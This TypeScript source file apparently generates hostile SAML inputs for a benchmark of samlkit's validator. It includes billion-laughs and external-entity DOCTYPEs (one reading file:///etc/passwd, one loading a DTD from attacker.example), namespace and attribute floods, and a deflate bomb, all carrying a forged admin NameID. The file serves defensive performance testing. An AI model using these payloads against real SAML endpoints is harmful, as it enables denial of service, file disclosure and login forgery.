// The hostile inputs: for each shape, a message of ~1 MiB (just under samlkit's default size limit)
// built to reach an expensive code path, next to a valid signed Response of the same size. Built
// from a Response signed by the benchmark IdP (testkit's buildResponse), edited as text.
//
// Hostile content goes inside the signed assertion, so every check before the assertion's signature
// passes (Status, Issuer, Destination, InResponseTo) and the validator canonicalizes it. The NameID
// is changed to the one an attacker wants, so no hostile document carries a valid signature. Where
// generating it is cheap, the Reference's DigestValue is recomputed over the edited assertion (as an
// attacker can: a digest needs no key), so a validator also canonicalizes SignedInfo and decodes the
// SignatureValue before the configured key refuses it. Where that canonicalization is itself the
// slow path (namespace floods, PrefixList), the digest is left stale: a validator compares it only
// after canonicalizing, so the work up to the refusal is the same.

import { createHash } from 'node:crypto';
import { deflateRawSync } from 'node:zlib';
import { DEFAULT_XML_LIMITS, loadPrivateKey } from '@samlkit/core';
import { buildResponse, type TestAttribute } from '@samlkit/testkit';
import { DOMParser } from '@xmldom/xmldom';
// samlkit's canonicalizer (internal to @samlkit/core), to recompute digests as an attacker would.
import { canonicalize } from '../../packages/core/src/lib/c14n.js';
import type { Fixtures } from './fixtures.js';
import { VALIDITY_MS } from './generate.js';

const SAML = 'urn:oasis:names:tc:SAML:2.0:assertion';
const DS = 'http://www.w3.org/2000/09/xmldsig#';
const EC = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const C14N_INCLUSIVE = 'http://www.w3.org/TR/2001/REC-xml-c14n-20010315';
const URI = 'urn:oasis:names:tc:SAML:2.0:attrname-format:uri';
/** The NameID every hostile document claims (the valid documents carry fixtures.nameId). */
export const ATTACKER_NAME_ID = 'admin@bench.example';

export const HOSTILE_SHAPES = [
  'deep-nesting',
  'xmlns-flood-one-element',
  'xmlns-flood-every-element',
  'prefixlist-many-elements',
  'attribute-flood',
  'base64-signature-value',
  'base64-x509-certificate',
  'base64-attribute-value',
  'many-references',
  'many-transforms',
  'doctype-billion-laughs',
  'doctype-external-entity',
  'doctype-after-comments',
  'doctype-parameter-entities',
  'many-siblings',
  'comment-run',
  'pi-run',
  'oversize',
  'deflate-bomb-redirect',
] as const;
export type HostileShape = (typeof HOSTILE_SHAPES)[number];

/** How the DigestValue of a hostile document relates to its content. */
export type DigestState = 'recomputed' | 'stale' | 'none';

export interface HostileShapeInfo {
  readonly label: string;
  /** What the input is and which code path it aims at. */
  readonly description: string;
  readonly binding: 'post' | 'redirect';
  readonly digest: DigestState;
}

export const HOSTILE_SHAPE_INFO: Record<HostileShape, HostileShapeInfo> = {
  'deep-nesting': {
    label: 'deep nesting',
    description:
      'an AttributeValue holding ~150 000 nested empty elements (<b><b>…</b></b>): parser depth, depth limit (64)',
    binding: 'post',
    digest: 'stale',
  },
  'xmlns-flood-one-element': {
    label: 'namespace declarations, one element',
    description:
      'one AttributeValue declaring ~45 000 namespace prefixes; the Reference asks for inclusive C14N, which renders every declaration',
    binding: 'post',
    digest: 'stale',
  },
  'xmlns-flood-every-element': {
    label: 'namespace declarations, every element',
    description:
      'an AttributeValue declaring ~23 000 prefixes, with ~12 000 children each redeclaring 2 of them; inclusive C14N',
    binding: 'post',
    digest: 'stale',
  },
  'prefixlist-many-elements': {
    label: 'long InclusiveNamespaces PrefixList × many elements',
    description:
      'an exclusive-C14N Transform with a PrefixList of ~95 000 prefixes, over an assertion holding ~130 000 empty elements',
    binding: 'post',
    digest: 'stale',
  },
  'attribute-flood': {
    label: 'attribute flood',
    description: 'one AttributeValue element carrying ~110 000 attributes',
    binding: 'post',
    digest: 'recomputed',
  },
  'base64-signature-value': {
    label: 'huge SignatureValue',
    description: 'a ~1 MiB base64 SignatureValue (digest recomputed, so the value is decoded)',
    binding: 'post',
    digest: 'recomputed',
  },
  'base64-x509-certificate': {
    label: 'huge X509Certificate',
    description: 'a ~1 MiB base64 X509Certificate in KeyInfo (which samlkit never reads)',
    binding: 'post',
    digest: 'recomputed',
  },
  'base64-attribute-value': {
    label: 'huge base64 attribute value',
    description: 'one AttributeValue of ~1 MiB of base64 text inside the signed assertion',
    binding: 'post',
    digest: 'recomputed',
  },
  'many-references': {
    label: 'many References in SignedInfo',
    description: '~2 500 ds:Reference elements in the assertion signature',
    binding: 'post',
    digest: 'stale',
  },
  'many-transforms': {
    label: 'many Transforms in a Reference',
    description: '~15 000 ds:Transform elements in the assertion signature’s Reference',
    binding: 'post',
    digest: 'stale',
  },
  'doctype-billion-laughs': {
    label: 'DOCTYPE: billion laughs',
    description:
      'an internal subset of 10 nested entities (10^10 expansions) used in the NameID, before a ~1 MiB Response',
    binding: 'post',
    digest: 'stale',
  },
  'doctype-external-entity': {
    label: 'DOCTYPE: external entity',
    description: 'an external entity (file:///etc/passwd) used in the NameID, ~1 MiB Response',
    binding: 'post',
    digest: 'stale',
  },
  'doctype-after-comments': {
    label: 'DOCTYPE after a long prolog of comments and whitespace',
    description:
      'the prolog holds ~1 MiB of comments and line breaks, then a DOCTYPE, then the Response',
    binding: 'post',
    digest: 'stale',
  },
  'doctype-parameter-entities': {
    label: 'DOCTYPE: parameter entities',
    description:
      'an internal subset with an external parameter entity and a parameter entity that declares an entity, ~1 MiB Response',
    binding: 'post',
    digest: 'stale',
  },
  'many-siblings': {
    label: 'many sibling elements',
    description: 'an AttributeValue holding ~260 000 empty sibling elements (<b/>)',
    binding: 'post',
    digest: 'recomputed',
  },
  'comment-run': {
    label: 'long comment run',
    description: 'an AttributeValue holding ~130 000 comments',
    binding: 'post',
    digest: 'recomputed',
  },
  'pi-run': {
    label: 'long processing-instruction run',
    description: 'an AttributeValue holding ~210 000 processing instructions (<?p?>)',
    binding: 'post',
    digest: 'recomputed',
  },
  oversize: {
    label: 'just over the size limit',
    description: 'a Response of maxSize + 1 KiB characters (padded with attribute values)',
    binding: 'post',
    digest: 'stale',
  },
  'deflate-bomb-redirect': {
    label: 'deflate bomb (Redirect binding)',
    description:
      'a SAMLRequest of ~45 KB raw DEFLATE inflating to ~45 MiB, in a Redirect URL just under the 64 KiB query limit',
    binding: 'redirect',
    digest: 'none',
  },
};

export interface HostileInput {
  /** The value as the endpoint receives it: base64 POST field, or the whole Redirect URL. */
  readonly input: string;
  /** Size of the message: XML characters (POST), or the query string's length (Redirect). */
  readonly bytes: number;
  /** Length of `input` (the base64 form value, or the URL). */
  readonly encodedBytes: number;
  /** Redirect only: how large the DEFLATE payload inflates. */
  readonly inflatedBytes?: number;
}

export interface HostileFixtures {
  /** The size every POST document was built to reach (characters; all ASCII). */
  readonly targetBytes: number;
  /** samlkit's default maximum XML size (DEFAULT_XML_LIMITS.maxSize). */
  readonly maxSize: number;
  readonly valid: HostileInput & { readonly attributeValues: number };
  readonly shapes: Record<HostileShape, HostileInput>;
}

/** The Redirect binding's default query limit in decodeRedirect (characters). */
export const REDIRECT_MAX_QUERY = 64 * 1024;

function b64(xml: string): string {
  return Buffer.from(xml, 'utf8').toString('base64');
}

function post(xml: string): HostileInput {
  const input = b64(xml);
  return { input, bytes: Buffer.byteLength(xml, 'utf8'), encodedBytes: input.length };
}

/** Repeats `unit(i)` until `budget` characters are filled (never more). */
function fill(budget: number, unit: (i: number) => string): string {
  const parts: string[] = [];
  let n = 0;
  for (let i = 0; ; i++) {
    const u = unit(i);
    if (n + u.length > budget) break;
    parts.push(u);
    n += u.length;
  }
  return parts.join('');
}

function replaceOnce(xml: string, find: string | RegExp, by: string): string {
  let hit = false;
  const out = xml.replace(find, () => {
    hit = true;
    return by;
  });
  if (!hit) throw new Error(`hostile generator: ${String(find)} not found`);
  return out;
}

/** Adds `<saml:Attribute>` + inner first in the AttributeStatement. */
function withAttribute(xml: string, inner: string): string {
  return replaceOnce(
    xml,
    '<saml:AttributeStatement>',
    `<saml:AttributeStatement><saml:Attribute Name="urn:bench:hostile" NameFormat="${URI}">${inner}</saml:Attribute>`,
  );
}

function groupValues(budget: number): string {
  return fill(
    budget,
    (i) =>
      `<saml:AttributeValue>CN=group-${String(i).padStart(6, '0')},OU=Groups,DC=bench,DC=example</saml:AttributeValue>`,
  );
}

/**
 * Recomputes the assertion signature's DigestValue over the (edited) assertion with the transforms
 * its Reference names, as anyone can without the IdP's key.
 */
function recomputeDigest(xml: string): string {
  const doc = new DOMParser().parseFromString(xml, 'text/xml') as unknown as Document;
  const assertion = doc.getElementsByTagNameNS(SAML, 'Assertion')[0]!;
  let sig: Element | undefined;
  for (let c = assertion.firstChild; c; c = c.nextSibling) {
    if (c.nodeType === 1 && (c as Element).localName === 'Signature') sig = c as Element;
  }
  if (!sig) throw new Error('hostile generator: the assertion is not signed');
  const transforms = [...(sig.getElementsByTagNameNS(DS, 'Transform') as unknown as Element[])];
  const c14n = transforms[1];
  const exclusive = c14n?.getAttribute('Algorithm') === EC;
  const inc = c14n?.getElementsByTagNameNS(EC, 'InclusiveNamespaces')[0];
  const prefixes = (inc?.getAttribute('PrefixList') ?? '').split(/\s+/).filter(Boolean);
  const canonical = canonicalize(assertion, {
    exclusive,
    inclusivePrefixes: prefixes,
    exclude: sig,
  });
  const digest = createHash('sha256').update(canonical, 'utf8').digest('base64');
  return replaceOnce(
    xml,
    /<ds:DigestValue>[^<]*<\/ds:DigestValue>/,
    `<ds:DigestValue>${digest}</ds:DigestValue>`,
  );
}

const INCLUSIVE_TRANSFORM = `<ds:Transform Algorithm="${C14N_INCLUSIVE}"/>`;
const EXCLUSIVE_TRANSFORM = `<ds:Transform Algorithm="${EC}"/>`;

/**
 * Builds every hostile input and the valid baseline.
 * @param f - the benchmark fixtures (keys, entity IDs, request ID, clock)
 * @param targetBytes - the size every POST document is built to reach (at most the default limit)
 * @param bombInflatedBytes - how large the Redirect deflate bomb inflates
 */
export async function generateHostile(
  f: Fixtures,
  targetBytes: number,
  bombInflatedBytes: number,
): Promise<HostileFixtures> {
  const maxSize = DEFAULT_XML_LIMITS.maxSize;
  if (targetBytes > maxSize) throw new Error('targetBytes above the default size limit');
  const signingKey = {
    privateKey: loadPrivateKey(f.idpRsaPrivateKeyPem),
    certificatePem: f.idpRsaCertPem,
  };
  const common = {
    idpEntityId: f.idpEntityId,
    spEntityId: f.spEntityId,
    acsUrl: f.acsUrl,
    now: f.now,
    inResponseTo: f.requestId,
    notOnOrAfter: f.now + VALIDITY_MS,
    subjectConfirmation: { notOnOrAfter: f.now + VALIDITY_MS },
    sign: 'assertion',
    signingKey,
  } as const;
  const nameId = {
    value: f.nameId,
    format: 'urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress',
  };

  // The valid baseline: a signed assertion with as many group values as fit under targetBytes.
  const groups = (n: number): TestAttribute[] => [
    { name: 'urn:oid:0.9.2342.19200300.100.1.3', nameFormat: URI, values: [f.nameId] },
    {
      name: 'http://schemas.microsoft.com/ws/2008/06/identity/claims/groups',
      nameFormat: URI,
      values: Array.from(
        { length: n },
        (_, i) =>
          `CN=application-access-group-${String(i).padStart(5, '0')},OU=Application Access Groups,OU=Security Groups,DC=bench,DC=example,DC=com`,
      ),
    },
  ];
  const probe = await buildResponse({ ...common, sign: 'none', nameId, attributes: groups(100) });
  const probe0 = await buildResponse({ ...common, sign: 'none', nameId, attributes: groups(0) });
  const perValue = (probe.length - probe0.length) / 100;
  const signatureRoom = 2500;
  let n = Math.max(1, Math.floor((targetBytes - probe0.length - signatureRoom) / perValue));
  let validXml = await buildResponse({ ...common, nameId, attributes: groups(n) });
  while (validXml.length > targetBytes && n > 1) {
    n = Math.max(1, n - Math.ceil((validXml.length - targetBytes) / perValue) - 1);
    validXml = await buildResponse({ ...common, nameId, attributes: groups(n) });
  }

  // The base of every hostile document: a small signed Response whose NameID is then changed.
  const signed = await buildResponse({
    ...common,
    nameId,
    attributes: [{ name: 'urn:oid:2.5.4.42', nameFormat: URI, values: ['Alice'] }],
  });
  const base = replaceOnce(
    signed,
    `>${f.nameId}</saml:NameID>`,
    `>${ATTACKER_NAME_ID}</saml:NameID>`,
  );
  // Room left for hostile content in a document of targetBytes characters.
  const room = (wrapper: number) => targetBytes - base.length - wrapper - 200;
  const attrWrap =
    '<saml:Attribute Name="urn:bench:hostile" NameFormat="" ></saml:Attribute>'.length + URI.length;
  const valueWrap = '<saml:AttributeValue></saml:AttributeValue>'.length;

  const shapes = {} as Record<HostileShape, HostileInput>;
  const add = (shape: HostileShape, xml: string) => {
    if (shape !== 'oversize' && xml.length > maxSize)
      throw new Error(`hostile generator: ${shape} is ${xml.length} characters, over ${maxSize}`);
    shapes[shape] = post(xml);
  };

  {
    const levels = Math.floor(room(attrWrap + valueWrap) / 7);
    const inner = `${'<b>'.repeat(levels)}${'</b>'.repeat(levels)}`;
    add('deep-nesting', withAttribute(base, `<saml:AttributeValue>${inner}</saml:AttributeValue>`));
  }
  {
    const decls = fill(
      room(attrWrap + valueWrap + 10),
      (i) => ` xmlns:p${i.toString(36)}="urn:x:${i.toString(36)}"`,
    );
    const xml = withAttribute(base, `<saml:AttributeValue${decls}>x</saml:AttributeValue>`);
    add('xmlns-flood-one-element', replaceOnce(xml, EXCLUSIVE_TRANSFORM, INCLUSIVE_TRANSFORM));
  }
  {
    const half = Math.floor(room(attrWrap + valueWrap + 10) / 2);
    const decls = fill(half, (i) => ` xmlns:p${i.toString(36)}="urn:x:${i.toString(36)}"`);
    const children = fill(half, (i) => `<c xmlns:p0="urn:y:${i.toString(36)}" xmlns:p1="urn:y"/>`);
    const xml = withAttribute(
      base,
      `<saml:AttributeValue${decls}>${children}</saml:AttributeValue>`,
    );
    add('xmlns-flood-every-element', replaceOnce(xml, EXCLUSIVE_TRANSFORM, INCLUSIVE_TRANSFORM));
  }
  {
    const half = Math.floor(room(attrWrap + valueWrap + 150) / 2);
    const list = fill(half, (i) => `p${i.toString(36)} `).trimEnd();
    const elements = fill(half, () => '<b/>');
    const xml = withAttribute(base, `<saml:AttributeValue>${elements}</saml:AttributeValue>`);
    add(
      'prefixlist-many-elements',
      replaceOnce(
        xml,
        EXCLUSIVE_TRANSFORM,
        `<ds:Transform Algorithm="${EC}"><ec:InclusiveNamespaces xmlns:ec="${EC}" PrefixList="${list}"/></ds:Transform>`,
      ),
    );
  }
  {
    const attrs = fill(room(attrWrap + valueWrap + 10), (i) => ` a${i.toString(36)}="x"`);
    add(
      'attribute-flood',
      recomputeDigest(withAttribute(base, `<saml:AttributeValue${attrs}>x</saml:AttributeValue>`)),
    );
  }
  const base64Run = (len: number) => {
    const bytes = Buffer.alloc(Math.floor((len * 3) / 4));
    for (let i = 0; i < bytes.length; i++) bytes[i] = (i * 2654435761) >>> 24;
    return bytes.toString('base64');
  };
  {
    const sigValue = /<ds:SignatureValue>[^<]*<\/ds:SignatureValue>/;
    const existing = sigValue.exec(base)![0].length;
    const xml = replaceOnce(
      recomputeDigest(base),
      sigValue,
      `<ds:SignatureValue>${base64Run(room(0) + existing - 50)}</ds:SignatureValue>`,
    );
    add('base64-signature-value', xml);
  }
  {
    const cert = /<ds:X509Certificate>[^<]*<\/ds:X509Certificate>/;
    const existing = cert.exec(base)![0].length;
    const xml = replaceOnce(
      recomputeDigest(base),
      cert,
      `<ds:X509Certificate>${base64Run(room(0) + existing - 50)}</ds:X509Certificate>`,
    );
    add('base64-x509-certificate', xml);
  }
  {
    const text = base64Run(room(attrWrap + valueWrap));
    add(
      'base64-attribute-value',
      recomputeDigest(withAttribute(base, `<saml:AttributeValue>${text}</saml:AttributeValue>`)),
    );
  }
  {
    const ref = /<ds:Reference [\s\S]*?<\/ds:Reference>/.exec(base)![0];
    const refs = fill(room(0), () => ref);
    add('many-references', replaceOnce(base, ref, refs));
  }
  {
    const transforms = fill(room(0), () => EXCLUSIVE_TRANSFORM);
    add(
      'many-transforms',
      replaceOnce(base, EXCLUSIVE_TRANSFORM, EXCLUSIVE_TRANSFORM + transforms),
    );
  }

  // DOCTYPE shapes: a declaration in front of a Response padded to targetBytes with group values.
  const withDoctype = (doctype: string, entityInNameId: string | undefined) => {
    const body = entityInNameId
      ? replaceOnce(base, `>${ATTACKER_NAME_ID}</saml:NameID>`, `>${entityInNameId}</saml:NameID>`)
      : base;
    const pad = groupValues(room(attrWrap + doctype.length + 30));
    return `<?xml version="1.0" encoding="UTF-8"?>\n${doctype}\n${withAttribute(body, pad)}`;
  };
  {
    let entities = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 10; i++) entities += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    add(
      'doctype-billion-laughs',
      withDoctype(`<!DOCTYPE samlp:Response [${entities}]>`, '&lol10;'),
    );
  }
  add(
    'doctype-external-entity',
    withDoctype('<!DOCTYPE samlp:Response [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', '&xxe;'),
  );
  {
    const doctype = '<!DOCTYPE samlp:Response [<!ENTITY user "admin@bench.example">]>';
    const prolog = fill(room(doctype.length + 60), (i) => (i % 2 ? `<!-- ${i} -->` : '\n   '));
    add(
      'doctype-after-comments',
      `<?xml version="1.0" encoding="UTF-8"?>${prolog}${doctype}\n${base}`,
    );
  }
  add(
    'doctype-parameter-entities',
    withDoctype(
      '<!DOCTYPE samlp:Response [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote; <!ENTITY % decl "<!ENTITY user \'admin@bench.example\'>"> %decl;]>',
      '&user;',
    ),
  );
  {
    const siblings = fill(room(attrWrap + valueWrap), () => '<b/>');
    add(
      'many-siblings',
      recomputeDigest(
        withAttribute(base, `<saml:AttributeValue>${siblings}</saml:AttributeValue>`),
      ),
    );
  }
  {
    const comments = fill(room(attrWrap + valueWrap), () => '<!--c-->');
    add(
      'comment-run',
      recomputeDigest(
        withAttribute(base, `<saml:AttributeValue>${comments}</saml:AttributeValue>`),
      ),
    );
  }
  {
    const pis = fill(room(attrWrap + valueWrap), () => '<?p?>');
    add(
      'pi-run',
      recomputeDigest(withAttribute(base, `<saml:AttributeValue>${pis}</saml:AttributeValue>`)),
    );
  }
  {
    // Just over the limit, whatever targetBytes is: maxSize + 1 KiB.
    const pad = groupValues(maxSize + 1024 - base.length - attrWrap);
    let xml = withAttribute(base, pad);
    xml += ' '.repeat(Math.max(0, maxSize + 1024 - xml.length));
    shapes.oversize = post(xml);
  }
  shapes['deflate-bomb-redirect'] = deflateBomb(f, bombInflatedBytes);

  return {
    targetBytes,
    maxSize,
    valid: { ...post(validXml), attributeValues: n + 1 },
    shapes,
  };
}

/**
 * A LogoutRequest start followed by `inflated` characters of spaces, raw-DEFLATEd into a Redirect
 * URL whose query stays under decodeRedirect's default 64 KiB limit.
 */
function deflateBomb(f: Fixtures, inflated: number): HostileInput {
  const head = `<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_bomb" Version="2.0" IssueInstant="${new Date(f.now).toISOString()}" Destination="https://sp.bench.example/saml/slo">`;
  for (let size = inflated; ; size = Math.floor(size * 0.95)) {
    const payload = Buffer.concat([Buffer.from(head), Buffer.alloc(size, 0x20)]);
    const compressed = deflateRawSync(payload, { level: 9 });
    const query = `SAMLRequest=${encodeURIComponent(compressed.toString('base64'))}`;
    if (query.length <= REDIRECT_MAX_QUERY - 256) {
      const input = `https://sp.bench.example/saml/slo?${query}`;
      return {
        input,
        bytes: query.length,
        encodedBytes: input.length,
        inflatedBytes: payload.length,
      };
    }
  }
}
